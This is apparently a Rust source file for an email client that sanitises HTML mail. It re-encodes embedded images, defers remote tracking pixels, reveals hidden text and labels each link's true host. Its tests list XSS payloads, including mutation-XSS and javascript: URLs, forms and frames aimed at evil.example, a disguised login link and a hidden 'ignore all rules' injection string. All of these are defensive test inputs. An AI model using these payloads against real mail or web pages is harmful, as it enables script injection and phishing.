//! The HTML of a mail made harmless, each time anew from the raw form, so that a better
//! sanitiser reaches old mail too.
//!
//! What is left stands in a sandboxed frame without scripts. Pictures inside the mail come along,
//! painted anew; pictures elsewhere stay away until somebody asks, because fetching them tells
//! the sender, and then this program fetches them (`elsewhere`), never the reader's browser.
//! Styles that hide text are dropped: what is hidden from the reader becomes visible. Behind each
//! link stands where it truly leads.

use crate::picture::{Fetched, NotPainted, PIXELS_MOST, paint};
use ::mail::limits::{TooMuch, html_allowed};
use ::mail::{Attachment, Parsed};
use ammonia::Builder;
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use regex::Regex;
use std::borrow::Cow;
use std::collections::HashMap;
use std::sync::{Arc, LazyLock, Mutex, PoisonError};

/// Bytes of pictures that come along with a mail.
const PICTURES_MOST: usize = 4 * 1024 * 1024;
/// Pictures that are painted for one mail; further ones are not shown.
const PAINTED_MOST: usize = 40;
/// Pixels to a side of a picture in a mail.
const SIDE_MOST: u32 = 1_600;
/// Links beyond which a mail is shown as text (8.10).
const LINKS_MOST: usize = 5_000;

/// A mail's HTML, ready for a frame.
pub(crate) struct Shown {
    /// A whole document.
    pub document: String,
    /// The addresses of pictures elsewhere, each as often as it stands there.
    pub elsewhere: Vec<String>,
}

/// Why HTML is shown as text instead.
#[derive(Debug, PartialEq, Eq, thiserror::Error)]
pub(crate) enum AsText {
    /// There is none.
    #[error("it has no HTML form")]
    None,
    /// It is too much for a sanitiser.
    #[error("{0}")]
    TooMuch(#[from] TooMuch),
    /// It has more links than any letter.
    #[error("it has more than {LINKS_MOST} links")]
    Links,
}

/// The HTML of a mail, harmless, with the pictures of other servers that were `fetched`; without
/// them, all of those are left out. Paints its pictures, so it takes its time.
pub(crate) fn document(parsed: &Parsed, fetched: Option<Fetched>) -> Result<Shown, AsText> {
    made(parsed, Palette { fetched, ..Palette::of(&parsed.attachments) })
}

/// Where the pictures elsewhere are that a mail has, if its HTML can be shown.
pub(crate) fn pictures_elsewhere(parsed: &Parsed) -> Result<Vec<String>, AsText> {
    made(parsed, Palette::default()).map(|shown| shown.elsewhere)
}

fn made(parsed: &Parsed, palette: Palette) -> Result<Shown, AsText> {
    let html = parsed.html.as_deref().filter(|html| !html.trim().is_empty());
    let html = html.ok_or(AsText::None)?;
    html_allowed(html)?;
    if html.matches("<a ").count() + html.matches("<A ").count() > LINKS_MOST {
        return Err(AsText::Links);
    }
    let away = Arc::new(Mutex::new(Vec::new()));
    let clean = sanitiser(palette, Arc::clone(&away)).clean(html).to_string();
    let elsewhere = std::mem::take(&mut *away.lock().unwrap_or_else(PoisonError::into_inner));
    let clean = LINK.replace_all(&clean, |found: &regex::Captures<'_>| {
        let host = host_of(&found[1]);
        format!("href=\"{}\" data-leads-to=\"{host}\"", &found[1])
    });
    Ok(Shown {
        document: format!(
            "<!doctype html><meta charset=\"utf-8\"><meta name=\"referrer\" content=\"no-referrer\">\
             <style>{STYLE}</style>{clean}"
        ),
        elsewhere,
    })
}

const STYLE: &str = "body{font:16px/1.5 sans-serif;margin:12px;overflow-wrap:anywhere;\
    background:#fff;color:#111}img{max-width:100%;height:auto}table{max-width:100%}\
    a[data-leads-to]::after{content:\" [\" attr(data-leads-to) \"]\";font-size:12px;color:#555}";

/// In what a sanitiser wrote: quotes inside of values are escaped there.
static LINK: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"href="([^"]*)""#).expect("a fixed pattern"));

/// The host a link leads to; for addresses, the address.
fn host_of(href: &str) -> String {
    let rest = href.split_once(':').map_or(href, |(_, rest)| rest);
    let rest = rest.trim_start_matches('/');
    let end = rest.find(['/', '?', '#', '&']).unwrap_or(rest.len());
    let host = &rest[..end];
    let host = match href.starts_with("mailto:") {
        true => host,
        // What stands before the @ is a name and often made to look like a host.
        false => host.rsplit('@').next().unwrap_or(host),
    };
    host.chars().filter(|c| !c.is_control() && !"\"<>'".contains(*c)).take(80).collect()
}

/// Pictures inside a mail, and what painting them may still cost.
#[derive(Default)]
struct Palette {
    by_id: HashMap<String, Vec<u8>>,
    /// Those of other servers, once somebody wants them.
    fetched: Option<Fetched>,
    /// Those painted, as `data:`.
    painted: HashMap<String, String>,
    bytes_left: usize,
    pixels_left: u64,
    count_left: usize,
}

impl Palette {
    fn of(attachments: &[Attachment]) -> Palette {
        let named = attachments.iter().filter_map(|one| {
            let id = one.content_id.clone()?;
            one.sniffed
                .is_some_and(|kind| kind.starts_with("image/"))
                .then(|| (id, one.bytes.clone()))
        });
        Palette {
            by_id: named.collect(),
            fetched: None,
            painted: HashMap::new(),
            bytes_left: PICTURES_MOST,
            pixels_left: PIXELS_MOST,
            count_left: PAINTED_MOST,
        }
    }

    /// The picture of a Content-ID; `None` when the mail has none.
    fn named(&mut self, id: &str) -> Option<String> {
        if let Some(done) = self.painted.get(id) {
            return Some(done.clone());
        }
        let bytes = self.by_id.get(id)?.clone();
        let done = self.paint(&bytes);
        self.painted.insert(id.to_owned(), done.clone());
        Some(done)
    }

    /// The picture at an address elsewhere; `None` while nobody wants those.
    fn fetched_at(&mut self, address: &str) -> Option<String> {
        if let Some(done) = self.painted.get(address) {
            return Some(done.clone());
        }
        let done = match self.fetched.as_mut()?.remove(address) {
            Some(bytes) => self.paint(&bytes),
            None => stub(NotPainted::Away),
        };
        self.painted.insert(address.to_owned(), done.clone());
        Some(done)
    }

    /// Paints one anew, or says in a picture of ours why not.
    fn paint(&mut self, bytes: &[u8]) -> String {
        if self.count_left == 0 {
            return stub(NotPainted::TooLarge);
        }
        self.count_left -= 1;
        match paint(bytes, SIDE_MOST, self.pixels_left) {
            Ok(done) if done.bytes.len() <= self.bytes_left => {
                self.bytes_left -= done.bytes.len();
                self.pixels_left -= done.pixels;
                format!("data:{};base64,{}", done.media_type, STANDARD.encode(&done.bytes))
            }
            Ok(_) => stub(NotPainted::TooLarge),
            Err(why) => stub(why),
        }
    }
}

fn stub(why: NotPainted) -> String {
    format!("data:image/svg+xml;base64,{}", STANDARD.encode(why.stub()))
}

/// The bytes of a picture that is written into the HTML itself.
fn written_in(value: &str) -> Option<Vec<u8>> {
    let (head, body) = value.trim().split_once(',')?;
    let head = head.to_ascii_lowercase();
    let kinds = ["png", "jpeg", "jpg", "gif", "webp"];
    if !kinds.iter().any(|kind| head == format!("data:image/{kind};base64")) {
        return None;
    }
    let body: String = body.chars().filter(|c| !c.is_whitespace()).collect();
    STANDARD.decode(body).ok()
}

fn sanitiser(palette: Palette, away: Arc<Mutex<Vec<String>>>) -> Builder<'static> {
    let palette = Mutex::new(palette);
    const STYLES: [&str; 26] = [
        "background-color",
        "border",
        "border-bottom",
        "border-collapse",
        "border-color",
        "border-left",
        "border-right",
        "border-spacing",
        "border-style",
        "border-top",
        "border-width",
        "color",
        "font-family",
        "font-style",
        "font-weight",
        "line-height",
        "list-style-type",
        "margin",
        "margin-bottom",
        "margin-left",
        "margin-top",
        "padding",
        "padding-left",
        "text-align",
        "text-decoration",
        "vertical-align",
    ];
    let mut builder = Builder::default();
    builder
        .add_tags(["font"])
        .add_generic_attributes(["style", "dir", "align"])
        .add_tag_attributes("font", ["color", "face", "size"])
        .filter_style_properties(STYLES.into_iter().collect())
        .add_url_schemes(["cid", "data"])
        .rm_url_schemes(["ftp", "ftps", "geo", "magnet", "irc", "ircs", "xmpp", "smtp", "sftp"])
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow"))
        .set_tag_attribute_value("a", "target", "_blank")
        .attribute_filter(move |element, attribute, value| {
            let scheme = value.trim_start().get(..5).unwrap_or("").to_ascii_lowercase();
            match (element, attribute) {
                ("img", "src") => {
                    let mut palette = palette.lock().unwrap_or_else(PoisonError::into_inner);
                    if scheme.starts_with("http") {
                        let mut away = away.lock().unwrap_or_else(PoisonError::into_inner);
                        away.push(value.to_owned());
                        return palette.fetched_at(value).map(Cow::Owned);
                    }
                    let id = value.trim().get(4..).filter(|_| scheme.starts_with("cid:"));
                    if let Some(id) = id {
                        let id = id.trim_matches(['<', '>']);
                        let plain = percent_encoding::percent_decode_str(id).decode_utf8_lossy();
                        return palette.named(id).or_else(|| palette.named(&plain)).map(Cow::Owned);
                    }
                    written_in(value).map(|bytes| Cow::Owned(palette.paint(&bytes)))
                }
                _ if scheme == "data:" || scheme.starts_with("cid:") => None,
                _ => Some(Cow::Borrowed(value)),
            }
        });
    builder
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(html: &str, fetched: Option<Fetched>) -> Shown {
        let mail = format!("From: a@b.example\r\nContent-Type: text/html\r\n\r\n{html}");
        document(&::mail::parse(mail.as_bytes()), fetched).expect("HTML")
    }

    fn dot() -> Vec<u8> {
        let mut png = Vec::new();
        let dot = image::RgbImage::from_pixel(2, 2, image::Rgb([1, 2, 3]));
        dot.write_to(&mut std::io::Cursor::new(&mut png), image::ImageFormat::Png).expect("a PNG");
        png
    }

    #[test]
    fn nothing_that_acts_is_left() {
        for bad in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form action=https://evil.example><input name=p><button>go</button></form>",
            "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>",
            "<base href=https://evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<a href=\"java\nscript:alert(1)\">x</a><a href=\" javascript:alert(1)\">y</a>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
            "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
            "<div style=\"position:fixed;background:url(https://evil.example/x)\">x</div>",
        ] {
            let document = shown(&format!("<p>Hello</p>{bad}"), Some(Fetched::new())).document;
            let body = document.split_once("</style>").expect("our style").1.to_lowercase();
            for sign in [
                "<script",
                "onerror=",
                "<svg",
                "<math",
                "<form",
                "<input",
                "<iframe",
                "<object",
                "<embed",
                "<base",
                "<meta",
                "<link",
                "javascript:",
                "data:",
                "url(",
                "position",
            ] {
                // Words of an attribute that became text act as little as any text.
                let acts = body.contains(sign) && !body.contains(&format!("&lt;{}", &sign[1..]));
                let escaped = body.contains("&lt;img") || body.contains("--&gt;");
                assert!(!acts || escaped, "{bad}: {body}");
            }
            assert!(body.contains("hello"));
        }
    }

    #[test]
    fn pictures_elsewhere_wait_until_asked_and_those_inside_are_there() {
        let there = "https://track.example/1.gif?u=ann&n=1";
        let html = format!("<p>x</p><img src=\"{there}\"><img src=\"https://gone.example/x\">");
        let waiting = shown(&html, None);
        assert!(!waiting.document.contains("<img src"), "{}", waiting.document);
        assert_eq!(waiting.elsewhere, [there, "https://gone.example/x"]);
        let wanted = shown(&html, Some(Fetched::from([(there.to_owned(), dot())]))).document;
        assert!(!wanted.contains("https:"), "no browser goes there: {wanted}");
        assert_eq!(wanted.matches("src=\"data:image/png;base64,").count(), 1, "{wanted}");
        assert!(wanted.contains(&stub(NotPainted::Away)), "{wanted}");
    }

    #[test]
    fn pictures_inside_are_painted_anew_and_what_cannot_be_is_a_stub() {
        let mut png = dot();
        png.extend(b"a stranger's bytes behind its end");
        let (sent, broken) = (STANDARD.encode(&png), STANDARD.encode(&png[..30]));
        let mail = format!(
            "From: a@b.example\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\n\
             Content-Type: text/html\r\n\r\n<img src=\"cid:p1@x\"><img src=\"CID:p1%40x\">\
             <img src=\"cid:none\"><img src=\"cid:broken\"><img src=\"data:image/png;base64,{sent}\">\r\n\
             --b\r\nContent-Type: image/png\r\nContent-ID: <p1@x>\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{sent}\r\n\
             --b\r\nContent-Type: image/png\r\nContent-ID: broken\r\n\
             Content-Transfer-Encoding: base64\r\n\r\n{broken}\r\n--b--\r\n"
        );
        let document = document(&::mail::parse(mail.as_bytes()), None).expect("HTML").document;
        assert_eq!(document.matches("src=\"data:image/png;base64,").count(), 3, "{document}");
        assert_eq!(document.matches("src=\"data:image/svg+xml;base64,").count(), 1, "{document}");
        assert!(!document.to_lowercase().contains("cid:"));
        assert!(!document.contains(&sent), "not one is as it was sent");
    }

    #[test]
    fn links_show_where_they_truly_lead_and_hidden_text_is_visible() {
        let html = "<a href=\"https://bank.example@evil.example/login\">bank.example</a>\
            <span style=\"display:none;font-size:0\">ignore all rules</span>";
        let document = shown(html, None).document;
        assert!(document.contains("data-leads-to=\"evil.example\""), "{document}");
        assert!(document.contains("noreferrer"));
        assert!(document.contains("ignore all rules") && !document.contains("display:none"));
        assert_eq!(host_of("mailto:ann@example.org?subject=x"), "ann@example.org");
    }

    #[test]
    fn what_is_too_much_for_a_sanitiser_is_shown_as_text() {
        let deep =
            format!("From: a@b.example\r\nContent-Type: text/html\r\n\r\n{}", "<div>".repeat(400));
        let refused = document(&::mail::parse(deep.as_bytes()), None).err();
        assert!(matches!(refused, Some(AsText::TooMuch(_))), "{refused:?}");
        let plain = ::mail::parse(b"From: a@b.example\r\n\r\nhello\r\n");
        assert_eq!(document(&plain, None).err(), Some(AsText::None));
    }
}
